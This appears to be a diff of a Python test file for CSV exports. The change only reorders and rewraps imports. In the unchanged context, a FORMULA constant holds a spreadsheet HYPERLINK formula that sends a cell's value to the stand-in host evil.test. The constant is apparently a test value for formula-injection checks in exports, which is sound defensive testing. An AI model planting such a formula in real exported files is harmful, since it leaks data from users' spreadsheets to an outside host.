@@ -6,10 +6,10 @@ from datetime import datetime, timezone
 import pytest
 
 from models.ops import exports
-from tests.support.waiting import wait_for
 from tests.support.dispatch import Board
-from tests.support.exports import (JOB_COLUMNS, JOBS, bulk_jobs, csv_rows, export_files, exported, finished,
-                                   listed, start)
+from tests.support.exports import (JOB_COLUMNS, JOBS, bulk_jobs, csv_rows, export_files, exported, finished, listed,
+                                   start)
+from tests.support.waiting import wait_for
 
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
 
